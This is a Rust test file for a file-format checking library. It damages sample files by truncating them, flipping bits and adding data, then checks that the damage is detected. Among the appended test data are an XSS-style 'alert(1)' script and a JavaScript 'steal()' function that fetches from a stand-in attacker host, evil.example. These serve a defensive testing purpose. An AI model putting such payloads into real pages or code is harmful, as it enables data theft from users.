//! Damage of every kind to good files: all that can be known is found.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test ends with the panic that says why"
)]

mod support;

use std::{collections::BTreeMap, time::Instant};

use backlot_formats::{Format, Guard, Structure};
use support::{Random, Sample, samples, unknowable::may_end_at};

/// Cuts at structures and bits in structures for each sample: enough to meet every kind of
/// structure, few enough for seconds.
const STRUCTURES_MAX: usize = 250;
const RANDOM_CUTS: usize = 50;
const CHECKSUMMED_BITS: usize = 150;

/// Damage of one kind to the samples of one format.
#[derive(Default, Clone, Copy)]
struct Tally {
    cases: u32,
    found: u32,
}

/// Format, kind of damage.
type Table = BTreeMap<(String, &'static str), Tally>;

const KINDS: [&str; 6] = ["cut", "flip+sum", "flip-head", "appended", "prepended", "emptied"];

struct Run {
    table: Table,
    missed: Vec<String>,
}

impl Run {
    /// Counts a case; what is missed though it can be known is kept.
    fn case(&mut self, sample: &Sample, kind: &'static str, bytes: &[u8], must: bool, what: &str) {
        let started = Instant::now();
        let found = !sample.check(bytes).is_clean();
        assert!(started.elapsed().as_secs() < 5, "{} {what}", sample.name);
        let tally = self.table.entry((sample.format.to_string(), kind)).or_default();
        tally.cases += 1;
        tally.found += u32::from(found);
        if must && !found {
            self.missed.push(format!("{}: {kind} {what}", sample.name));
        }
    }
}

#[test]
fn damage_is_found() {
    let mut run = Run { table: Table::new(), missed: Vec::new() };
    for sample in samples() {
        let mut random = Random(0x5EED ^ sample.bytes.len() as u64);
        let report = sample.check(&sample.bytes);
        assert_eq!(report.walk.omitted, 0, "{}: the walk is whole", sample.name);
        let structures = picked(&report.walk.structures, STRUCTURES_MAX, &mut random);
        cuts(&mut run, &sample, &structures, &mut random);
        flips_under_sums(&mut run, &sample, &report.walk.structures, &mut random);
        flips_in_heads(&mut run, &sample, &structures, &mut random);
        additions(&mut run, &sample);
        run.case(&sample, "emptied", &[], true, "all");
        let zeros = vec![0; sample.bytes.len()];
        run.case(&sample, "emptied", &zeros, true, "to zeros");
    }
    print(&run.table);
    assert!(run.missed.is_empty(), "{} missed: {:#?}", run.missed.len(), run.missed);
    let heads = run.table.iter().filter(|((_, kind), _)| *kind == "flip-head");
    let (cases, found) = heads.fold((0, 0), |sum, (_, t)| (sum.0 + t.cases, sum.1 + t.found));
    assert!(cases * 6 < found * 10, "of flips in the heads of structures {found} of {cases}");
}

/// At most `most` of the structures, without favour.
fn picked<'s>(all: &'s [Structure], most: usize, random: &mut Random) -> Vec<&'s Structure> {
    if all.len() <= most {
        return all.iter().collect();
    }
    (0..most).map(|_| &all[random.below(all.len())]).collect()
}

/// Cut off at each start and end of a structure, inside of heads, and anywhere.
fn cuts(run: &mut Run, sample: &Sample, structures: &[&Structure], random: &mut Random) {
    let total = sample.bytes.len();
    let mut places: Vec<usize> = Vec::new();
    for structure in structures {
        let (start, end) = (structure.offset as usize, (structure.offset + structure.len) as usize);
        places.extend([start, start + 1, start + 4, end.saturating_sub(1), end]);
    }
    places.extend((0..RANDOM_CUTS).map(|_| random.below(total)));
    places.extend([1, total - 1]);
    places.sort_unstable();
    places.dedup();
    for cut in places {
        if 0 < cut && cut < total && !may_end_at(sample, cut) {
            run.case(sample, "cut", &sample.bytes[..cut], true, &format!("at {cut} of {total}"));
        }
    }
}

/// One bit in the bytes that the walk says a checksum covers.
fn flips_under_sums(run: &mut Run, sample: &Sample, all: &[Structure], random: &mut Random) {
    let covered: Vec<&Structure> =
        all.iter().filter(|structure| structure.guard == Guard::Checksum).collect();
    if covered.is_empty() {
        return;
    }
    for _ in 0..CHECKSUMMED_BITS {
        let structure = covered[random.below(covered.len())];
        let at = structure.offset as usize + random.below(structure.len as usize);
        let bit = random.below(8);
        let mut broken = sample.bytes.clone();
        broken[at] ^= 1 << bit;
        run.case(sample, "flip+sum", &broken, true, &format!("bit {bit} of byte {at}"));
    }
}

/// One bit in the first bytes of each structure: sizes and types are found, times are not.
fn flips_in_heads(run: &mut Run, sample: &Sample, structures: &[&Structure], random: &mut Random) {
    for structure in structures {
        let at = structure.offset as usize + random.below((structure.len as usize).min(8));
        let mut broken = sample.bytes.clone();
        broken[at] ^= 1 << random.below(8);
        run.case(sample, "flip-head", &broken, false, &structure.name);
    }
}

/// Other files behind and before.
fn additions(run: &mut Run, sample: &Sample) {
    let archive = samples_zip();
    let html = b"<html><script>alert(1)</script></html>\n";
    let script = b"function steal() { fetch('//evil.example') }\n";
    for (what, added) in [
        ("ZIP", archive.as_slice()),
        ("HTML", html),
        ("script", script),
        ("zero", &[0]),
        ("zeros", &[0; 9]),
        ("junk", &[7; 100]),
    ] {
        let behind = [&sample.bytes, added].concat();
        // To text more text is text: it may belong to the last cue, or be one field.
        let is_text = added[0] >= b' ' && what != "ZIP";
        let open_end = matches!(sample.format, Format::Text | Format::Srt | Format::WebVtt);
        // In UTF-16 any two bytes are most likely a character.
        let wide = sample.name == "utf16.txt";
        let one_field = sample.format == Format::Csv && is_text;
        // With a zero byte the CRC-16 of a FLAC frame stays zero: it may be its last.
        let sum_stays = sample.format == Format::Flac && what == "zero";
        let open_end = open_end && is_text;
        let must = !(open_end || wide || sum_stays || (one_field && what == "script"));
        run.case(sample, "appended", &behind, must, what);
        let before = [added, &sample.bytes].concat();
        let more_text = is_text && sample.format == Format::Text;
        let must = !(wide || more_text);
        run.case(sample, "prepended", &before, must, what);
    }
}

/// A small archive, as polyglots carry.
fn samples_zip() -> Vec<u8> {
    let mut zip = b"PK\x03\x04\x0A\0\0\0\0\0\0\0\0\0".to_vec();
    zip.extend([0_u8; 12]);
    zip.extend(b"\x01\0\0\0a");
    let directory = zip.len() as u32;
    zip.extend(b"PK\x01\x02\x0A\0\x0A\0\0\0\0\0\0\0\0\0");
    zip.extend([0_u8; 12]);
    zip.extend(b"\x01\0");
    zip.extend([0_u8; 16]);
    zip.extend(b"a");
    let size = zip.len() as u32 - directory;
    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    zip.extend(size.to_le_bytes());
    zip.extend(directory.to_le_bytes());
    zip.extend([0, 0]);
    zip
}

fn print(table: &Table) {
    println!("{:<16}{}", "found of cases", KINDS.map(|kind| format!("{kind:>12}")).concat());
    let mut formats: Vec<&String> = table.keys().map(|(format, _)| format).collect();
    formats.dedup();
    for format in formats {
        let cells = KINDS.map(|kind| {
            let tally = table.get(&(format.clone(), kind)).copied().unwrap_or_default();
            format!("{:>12}", format!("{}/{}", tally.found, tally.cases))
        });
        println!("{format:<16.16}{}", cells.concat());
    }
}
